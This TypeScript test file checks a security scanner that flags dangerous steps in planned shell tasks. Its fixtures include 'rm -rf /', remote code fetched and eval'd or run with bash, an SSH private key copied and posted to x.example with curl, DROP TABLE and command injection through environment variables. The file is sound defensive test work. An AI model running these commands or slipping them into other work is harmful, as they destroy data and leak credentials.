import { scanPlan, scanTask } from '../../../src/domain/security-rules/index.js';
import { planOf, ruleIds, taskOf, workspace } from './plan.js';

const sh = (script: string): string[] => ['sh', '-c', script];

describe('the scan of a plan', () => {
  test('names the task, or its undo, and keeps the order of the tasks', () => {
    const plan = planOf(
      { argv: ['curl', 'https://x.example'] },
      { argv: ['npm', 'test'] },
      { argv: ['true'], undo: { argv: ['rm', '-rf', '/'] } },
      { argv: sh('rm -rf /; curl https://x.example') },
    );
    expect(scanPlan(plan, workspace).map(({ where, rule }) => `${where} ${rule}`)).toEqual([
      't1 network-reach',
      't3.undo delete-outside',
      't4 delete-outside',
      't4 network-reach',
    ]);
  });

  test('finds nothing in an empty plan', () => {
    expect(scanPlan(planOf(), workspace)).toEqual([]);
  });

  test('gives the same findings every time', () => {
    const plan = planOf({ argv: sh('X=$(curl https://x.example); eval "$X"; rm -rf ~') });
    expect(scanPlan(plan, workspace)).toEqual(scanPlan(plan, workspace));
  });

  test.each<[string, Parameters<typeof taskOf>[0], string[]]>([
    ['standard input of a shell', { argv: ['sh'], stdin: 'rm -rf /\n' }, ['delete-outside']],
    ['standard input of a database', { argv: ['psql'], stdin: 'DROP TABLE users;' }, ['sql-destruction']],
    [
      'standard input of an interpreter',
      { argv: ['python3', '-'], stdin: "import shutil; shutil.rmtree('/')" },
      ['delete-outside'],
    ],
    ['items on standard input', { argv: ['xargs', 'rm', '-rf'], stdin: '/etc\n' }, ['delete-outside']],
    ['a variable of the task', { argv: sh('rm -rf "$D"'), env: { D: '/etc' } }, ['delete-outside']],
    [
      'a variable that is the script',
      { argv: sh('eval "$C"'), env: { C: 'rm -rf /' } },
      ['delete-outside', 'shell-injection'],
    ],
    ['a secret among the variables', { argv: ['psql'], env: { PGPASSWORD: 'hunter2' } }, ['secret-in-command']],
    [
      'an editor that is a script',
      { argv: ['git', 'commit'], env: { GIT_EDITOR: 'sh -c "rm -rf /"' } },
      ['delete-outside'],
    ],
    [
      'the socket by a variable',
      { argv: ['docker', 'ps'], env: { DOCKER_HOST: 'tcp://10.0.0.1:2375' } },
      ['container-socket'],
    ],
    ['a folder to start in', { argv: ['rm', '-rf', '../../other'], cwd: 'packages' }, ['delete-outside']],
    ['a folder from which .. stays inside', { argv: ['rm', '-rf', '../dist'], cwd: 'packages/a' }, []],
    ['a variable that is a harmless folder', { argv: sh('rm -rf "$D"'), env: { D: 'build' } }, []],
    ['data on standard input', { argv: ['node', 'import.js'], stdin: '{"note":"rm -rf /"}' }, []],
  ])('reads %s', (_, task, expected) => {
    expect(ruleIds(scanTask(taskOf(task), workspace)).toSorted()).toEqual(expected);
  });

  test('follows a file from the task that writes it to the task that runs it, whichever stands first', () => {
    const writes = { argv: sh("echo 'rm -rf /' > clean.sh") };
    const runs = { argv: ['sh', 'clean.sh'] };
    expect(scanPlan(planOf(writes, runs), workspace).map(({ where, rule }) => `${where} ${rule}`)).toEqual([
      't2 delete-outside',
    ]);
    expect(scanPlan(planOf(runs, writes), workspace).map(({ where, rule }) => `${where} ${rule}`)).toEqual([
      't1 delete-outside',
    ]);
  });

  test('sees a download in one task that another one runs', () => {
    const plan = planOf({ argv: ['curl', '-o', 'i.sh', 'https://x.example/i.sh'] }, { argv: ['bash', 'i.sh'] });
    expect(scanPlan(plan, workspace).map(({ where, rule }) => `${where} ${rule}`)).toEqual([
      't1 network-reach',
      't2 remote-code',
    ]);
  });

  test('sees secrets read in one task and data sent in another', () => {
    const plan = planOf(
      { argv: ['cp', '/root/.ssh/id_rsa', 'notes.txt'] },
      { argv: ['curl', '-d', '@notes.txt', 'https://x.example'] },
    );
    const found = scanPlan(plan, workspace).filter(({ rule }) => rule === 'exfiltration');
    expect(found.map(({ where }) => where)).toEqual(['t2']);
    expect(found[0]?.why).toContain('t1');
  });

  test('lets an undo drop the table that its task creates, and no other', () => {
    const create = { argv: ['psql', '-c', 'CREATE TABLE IF NOT EXISTS audit (id int)'] };
    const own = taskOf({ ...create, undo: { argv: ['psql', '-c', 'DROP TABLE IF EXISTS audit'] } });
    const other = taskOf({ ...create, undo: { argv: ['psql', '-c', 'DROP TABLE users'] } });
    expect(scanTask(own, workspace)).toEqual([]);
    expect(scanTask(other, workspace).map(({ where, rule }) => `${where} ${rule}`)).toEqual([
      't1.undo sql-destruction',
    ]);
  });

  test.each([
    ['/srv/projects/shop', '/srv/projects/shop/dist', []],
    ['/srv/projects/shop/', '/srv/projects/shop/dist', []],
    ['/srv/projects/shop', '/srv/projects/shop2', ['delete-outside']],
    ['/srv/projects/shop', '/srv/projects', ['delete-outside']],
    ['/tmp/shop', '/tmp/shop/dist', []],
    ['/tmp/shop', '/tmp/passing', []],
    ['/tmp/shop', '../passing', ['delete-outside']],
    ['/tmp/shop', '/tmp', ['delete-outside']],
    ['/tmp/shop', '/tmp/*', ['delete-outside']],
    ['/home/ann/shop', '/home/ann/shop/dist', []],
    ['/home/ann/shop', '/home/ann/other', ['delete-outside']],
    ['/root/shop', 'dist', []],
  ])('in the workspace %s, deleting %s is %j', (folder, path, expected) => {
    expect(ruleIds(scanTask(taskOf({ argv: ['rm', '-rf', path] }), folder))).toEqual(expected);
  });
});

describe('a text of any size and kind', () => {
  /** The most that one argument of a task may have, and the most that its standard input may have. */
  const [argumentLength, inputLength] = [100_000, 1_000_000];
  const of = (piece: string, length: number): string => piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
  const pieces = [
    'a',
    ' ',
    "'",
    '"',
    '\\',
    '`',
    '$',
    '(',
    '{',
    '<',
    '|',
    ';',
    '=',
    '$(',
    '${',
    '<<A ',
    'a=b ',
    '://',
    "or 1=1 '",
    '/*',
    '{a,b}',
    'if x; then ',
    '"+"',
    '-----BEGIN ',
    'password=x1 ',
    '\uFFFC',
    '\uD800',
  ];

  test.each(pieces)('made of %j is read as an argument, as SQL, as a script and as a program', (piece) => {
    const text = of(piece, argumentLength);
    for (const argv of [
      ['tool', text],
      ['psql', '-c', text],
      ['sh', '-c', text],
      ['node', '-e', text],
    ]) {
      expect(Array.isArray(scanTask(taskOf({ argv }), workspace))).toBe(true);
    }
  });

  test.each(['a', "'", 'SELECT 1; ', '-- x\n'])(
    'made of %j is read as a million characters of standard input',
    (piece) => {
      const stdin = of(piece, inputLength);
      for (const program of ['tool', 'psql', 'sh', 'node']) {
        expect(Array.isArray(scanTask(taskOf({ argv: [program], stdin }), workspace))).toBe(true);
      }
    },
  );

  test('that is too long for a script is a finding, not a pass', () => {
    const script = `${'true;'.repeat(40_000)} rm -rf /`;
    expect(ruleIds(scanTask({ ...taskOf({}), argv: ['sh', '-c', script] }, workspace))).toContain('opaque-command');
  });

  test('that unrolls to too many commands is a finding, not a pass', () => {
    const script = `for a in {a,b,c,d}{a,b,c,d}{a,b,c,d}; do for b in {a,b,c,d}{a,b,c,d}{a,b,c,d}; do echo $a $b; done; done; rm -rf /`;
    expect(ruleIds(scanTask(taskOf({ argv: ['bash', '-c', script] }), workspace))).toContain('opaque-command');
  });
});
